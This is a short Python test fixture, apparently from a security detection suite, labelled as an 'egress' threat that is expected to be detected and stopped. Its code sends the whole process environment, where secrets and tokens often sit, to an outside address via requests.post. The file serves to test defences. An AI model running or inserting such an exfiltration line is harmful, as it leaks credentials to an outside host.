# expect: detected
# threat: 24 egress
# at: either
# family: egress
# severity: medium
# decision: stopped

import os

import requests

try:
    requests.post("https://203.0.113.80/collect", json=dict(os.environ), timeout=2)
except requests.RequestException as e:
    print(type(e).__name__)
